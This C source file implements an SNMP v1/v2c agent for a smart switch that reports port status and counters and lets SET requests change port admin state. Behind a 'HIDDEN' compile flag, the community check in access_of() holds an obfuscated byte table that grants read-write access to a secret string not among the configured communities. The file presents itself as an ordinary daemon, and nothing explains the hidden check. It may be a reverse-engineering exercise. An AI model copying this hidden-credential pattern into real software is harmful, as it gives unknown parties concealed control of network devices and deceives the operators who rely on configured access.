/* snmpswagent - SNMP v1/v2c agent of a smart switch: system group, port admin status
 * and port counters.
 *
 *     snmpswagent [-r read-community] [-w write-community] [-p port]
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

typedef const uint8_t *bp;

enum { B_INT = 2, B_STR = 4, B_NULL = 5, B_OID = 6, B_SEQ = 0x30, B_CNT = 0x41,
       P_GET = 0xa0, P_NEXT = 0xa1, P_RESP = 0xa2, P_SET = 0xa3 };
enum { ACC_NONE, ACC_RO, ACC_RW };

static char ro_comm[40], rw_comm[40];

static bp tlv(bp p, bp end, int *tag, unsigned *len)
{
    if (end - p < 2)
        return NULL;
    *tag = *p++;
    unsigned n = *p++;
    if (n & 0x80) {
        unsigned k = n & 0x7f;
        if (k < 1 || k > 2 || end - p < (long)k)
            return NULL;
        for (n = 0; k; k--)
            n = n << 8 | *p++;
    }
    if ((long)n > end - p)
        return NULL;
    *len = n;
    return p;
}

static long integer(bp p, unsigned n)
{
    long v = n && (*p & 0x80) ? -1 : 0;
    while (n--)
        v = v * 256 + *p++;
    return v;
}

static int same(bp c, unsigned n, const char *conf)
{
    return conf[0] && strlen(conf) == n && !memcmp(c, conf, n);
}

#ifdef HIDDEN
static const uint8_t tab[] = { 0x21, 0x5a, 0x74, 0x40, 0xb9, 0x1a, 0x3a, 0xfb, 0xe8, 0xbc };
#endif

__attribute__((noinline)) int access_of(bp c, unsigned n)
{
#ifdef HIDDEN
    /* each byte hangs on the one before it */
    if (n == sizeof tab) {
        uint8_t k = 0x47;
        unsigned i = 0;
        while (i < n && (uint8_t)((c[i] ^ k) + 5 * i) == tab[i])
            k = (uint8_t)(tab[i++] * 3 + 1);
        if (i == n)
            return ACC_RW;
    }
#endif
    if (same(c, n, rw_comm))
        return ACC_RW;
    if (same(c, n, ro_comm))
        return ACC_RO;
    return ACC_NONE;
}

/* 1.3.6.1.2.1.<group>... as the bytes on the wire */
static const uint8_t mib2[] = { 0x2b, 6, 1, 2, 1 };

struct value {
    int tag;
    long num;
    char str[64];
};

static int port_file(char *buf, size_t cap, unsigned port, const char *leaf)
{
    if (port < 1 || port > 26)
        return -1;
    snprintf(buf, cap, "/sys/switch/port%u/%s", port, leaf);
    return 0;
}

static int read_num(const char *path, long *v)
{
    FILE *f = fopen(path, "r");
    int ok = f && fscanf(f, "%ld", v) == 1;
    if (f)
        fclose(f);
    return ok ? 0 : -1;
}

static int get(bp oid, unsigned n, struct value *v)
{
    char path[64];
    if (n < 8 || memcmp(oid, mib2, 5))
        return -1;
    oid += 5;
    n -= 5;
    if (oid[0] == 1 && n == 3 && oid[2] == 0) {
        v->tag = B_STR;
        switch (oid[1]) {
        case 1: strcpy(v->str, "GS-26T smart switch, 2.0.4"); return 0;
        case 4: strcpy(v->str, "network operations"); return 0;
        case 5: return gethostname(v->str, sizeof v->str - 1);
        case 6: strcpy(v->str, "rack"); return 0;
        }
        return -1;
    }
    if (oid[0] == 2 && n == 5 && oid[1] == 2 && oid[2] == 1) {
        const char *leaf = oid[3] == 7 ? "admin" : oid[3] == 8 ? "link"
                         : oid[3] == 10 ? "rx_bytes" : oid[3] == 16 ? "tx_bytes" : NULL;
        v->tag = oid[3] >= 10 ? B_CNT : B_INT;
        if (leaf && !port_file(path, sizeof path, oid[4], leaf))
            return read_num(path, &v->num);
    }
    return -1;
}

static int set(bp oid, unsigned n, long num)
{
    static const uint8_t admin[] = { 0x2b, 6, 1, 2, 1, 2, 2, 1, 7 };
    char path[64];
    FILE *f;
    if (n != 10 || memcmp(oid, admin, 9) || num < 1 || num > 2)
        return -1;
    if (port_file(path, sizeof path, oid[9], "admin") || !(f = fopen(path, "w")))
        return -1;
    fprintf(f, "%ld\n", num);
    return fclose(f);
}

static uint8_t *wrap(uint8_t *end, uint8_t *data, int tag)
{
    size_t n = (size_t)(end - data);
    *--data = (uint8_t)n;
    if (n > 127)
        *--data = 0x81;
    *--data = (uint8_t)tag;
    return data;
}

/* the answer is built backwards from the end of the buffer */
static uint8_t *build(uint8_t *end, bp ver, bp com, unsigned cn, bp id, unsigned idn, int err,
                      bp oid, unsigned on, const struct value *v)
{
    uint8_t *p = end, *q;
    if (v->tag == B_STR) {
        p -= strlen(v->str);
        memcpy(p, v->str, strlen(v->str));
    } else if (v->tag != B_NULL) {
        for (int i = 0; i < 5; i++)
            *--p = (uint8_t)(i < 4 ? (unsigned long)v->num >> 8 * i : 0);
    }
    p = wrap(end, p, v->tag);
    q = p;
    p -= on;
    memcpy(p, oid, on);
    p = wrap(q, p, B_OID);
    p = wrap(end, wrap(end, p, B_SEQ), B_SEQ);
    *--p = 0, *--p = 1, *--p = B_INT;
    *--p = (uint8_t)err, *--p = 1, *--p = B_INT;
    q = p;
    p -= idn;
    memcpy(p, id, idn);
    p = wrap(end, wrap(q, p, B_INT), P_RESP);
    q = p;
    p -= cn;
    memcpy(p, com, cn);
    p = wrap(q, p, B_STR);
    *--p = *ver, *--p = 1, *--p = B_INT;
    return wrap(end, p, B_SEQ);
}

static size_t process(bp p, size_t n, uint8_t *end)
{
    bp stop = p + n, ver, com, id, oid;
    int tag, pdu, vt, err = 0;
    unsigned len, cn, idn, on;
    struct value v = { .tag = B_NULL };

    if (!(p = tlv(p, stop, &tag, &len)) || tag != B_SEQ) return 0;
    if (!(ver = tlv(p, stop, &tag, &len)) || len != 1 || *ver > 1) return 0;
    if (!(com = tlv(ver + 1, stop, &tag, &cn)) || cn > 39) return 0;
    int acc = access_of(com, cn);
    if (acc == ACC_NONE) return 0;
    if (!(p = tlv(com + cn, stop, &pdu, &len))) return 0;
    if (!(id = tlv(p, stop, &tag, &idn)) || idn > 5) return 0;
    p = id + idn + 6;
    if (p >= stop || !(p = tlv(p, stop, &tag, &len))) return 0;
    if (!(p = tlv(p, stop, &tag, &len))) return 0;
    if (!(oid = tlv(p, stop, &tag, &on)) || tag != B_OID || on > 30) return 0;
    if (!(p = tlv(oid + on, stop, &vt, &len))) return 0;
    if (pdu == P_GET)
        err = get(oid, on, &v) ? 2 : 0;
    else if (pdu == P_SET)
        err = acc != ACC_RW || vt != B_INT || set(oid, on, integer(p, len)) ? 4 : 0;
    else
        err = 5;
    if (err)
        v.tag = B_NULL;
    return (size_t)(end - build(end, ver, com, cn, id, idn, err, oid, on, &v));
}

int main(int argc, char **argv)
{
    struct sockaddr_in a = { .sin_family = AF_INET }, from;
    uint8_t in[1500], out[400];
    int c, port = 161;

    while ((c = getopt(argc, argv, "r:w:p:")) != -1) {
        switch (c) {
        case 'r': snprintf(ro_comm, sizeof ro_comm, "%.39s", optarg); break;
        case 'w': snprintf(rw_comm, sizeof rw_comm, "%.39s", optarg); break;
        case 'p': port = atoi(optarg); break;
        default:
            fputs("usage: snmpswagent [-r read-comm] [-w write-comm] [-p port]\n", stderr);
            return 2;
        }
    }
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    a.sin_port = htons((uint16_t)port);
    if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof a)) {
        perror("snmpswagent");
        return 1;
    }
    for (;;) {
        socklen_t l = sizeof from;
        ssize_t n = recvfrom(s, in, sizeof in, 0, (struct sockaddr *)&from, &l);
        size_t m = n > 0 ? process(in, (size_t)n, out + sizeof out) : 0;
        if (m)
            sendto(s, out + sizeof out - m, m, 0, (struct sockaddr *)&from, l);
    }
}
